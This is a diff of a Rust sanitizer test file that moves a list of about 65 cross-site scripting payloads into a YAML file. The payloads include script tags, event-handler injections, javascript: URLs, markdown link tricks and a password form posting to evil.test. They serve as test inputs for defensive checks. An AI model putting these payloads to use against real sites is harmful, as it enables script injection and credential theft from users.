@@ -109,87 +109,24 @@ fn the_text_is_the_rendering_without_markup() {
     assert_eq!(text("<b title='a > b'>x</b>"), "x");
 }
 
-/// Ways into a page, from public lists. None may leave more than text, harmless
-/// elements and links of the web.
-const ATTACKS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"javascript:alert(1)\">",
-    "<img src='x'onerror='alert(1)'>",
-    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<math href=\"javascript:alert(1)\">x</math>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<object data=\"javascript:alert(1)\"></object>",
-    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
-    "<a href=\"java\nscript:alert(1)\">x</a>",
-    "<a href=\" &#14; javascript:alert(1)\">x</a>",
-    "<a href=\"vbscript:msgbox(1)\">x</a>",
-    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
-    "<a onclick=alert(1) href=\"https://forge.test\">x</a>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "![x](javascript:alert(1))",
-    "![x\" onerror=\"alert(1)](https://forge.test/x.png)",
-    "[x](https://forge.test/\"onmouseover=\"alert(1))",
-    "[x](https://forge.test 'a\" onmouseover=\"alert(1)')",
-    "<javascript:alert(1)>",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
-    "<style>@import 'https://evil.test/x.css';</style>",
-    "<link rel=stylesheet href=https://evil.test/x.css>",
-    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-    "<base href=\"https://evil.test/\">",
-    "<form action=https://evil.test><input name=password><button>x</button></form>",
-    "<input type=image src=x onerror=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)>",
-    "<textarea autofocus onfocus=alert(1)>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<body onload=alert(1)>",
-    "<isindex action=javascript:alert(1) type=image>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><img src=x onerror=alert(1)></xmp>",
-    "<!--<img src=x onerror=alert(1)>-->",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version=\"1.0\"?><script>alert(1)</script>",
-    "```\"><script>alert(1)</script>\nx\n```",
-    "```x\" onmouseover=\"alert(1)\nx\n```",
-    "`<script>alert(1)</script>`",
-    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "<p id=login class=header name=x>x</p>",
-    "<a id=x name=y class=\"btn user-mention x\" href=https://forge.test>x</a>",
-    "@alice\"><script>alert(1)</script>",
-    "<b>@alice</b onmouseover=alert(1)>",
-];
+/// None may leave more than text, harmless elements and links of the web.
+const ATTACKS: &str = include_str!("attacks.yaml");
 
 #[test]
 fn no_attack_of_the_lists_gets_through() {
-    for attack in ATTACKS {
+    let attacks: Vec<String> = serde_saphyr::from_str(ATTACKS).unwrap();
+    for attack in attacks {
         for body in [
-            (*attack).to_owned(),
+            attack.clone(),
             format!("x {attack} y"),
             format!("> - {attack}"),
         ] {
             let html = html(&body);
             for (name, attributes) in tags(&html) {
-                assert!(ELEMENTS.contains(&name.as_str()), "{body}\n{html}");
+                assert!(
+                    ELEMENTS.split(' ').any(|known| known == name),
+                    "{body}\n{html}"
+                );
                 for (attribute, value) in attributes {
                     assert!(allowed(&name, &attribute, &value), "{body}\n{html}");
                 }
@@ -200,34 +137,8 @@ fn no_attack_of_the_lists_gets_through() {
     }
 }
 
-const ELEMENTS: &[&str] = &[
-    "p",
-    "a",
-    "b",
-    "i",
-    "em",
-    "strong",
-    "del",
-    "code",
-    "pre",
-    "br",
-    "hr",
-    "img",
-    "ul",
-    "ol",
-    "li",
-    "blockquote",
-    "table",
-    "thead",
-    "tbody",
-    "tr",
-    "th",
-    "td",
-    "input",
-    "details",
-    "div",
-    "span",
-];
+const ELEMENTS: &str = "p a b i em strong del code pre br hr img ul ol li blockquote table \
+                        thead tbody tr th td input details div span";
 
 fn allowed(element: &str, attribute: &str, value: &str) -> bool {
     match (element, attribute) {
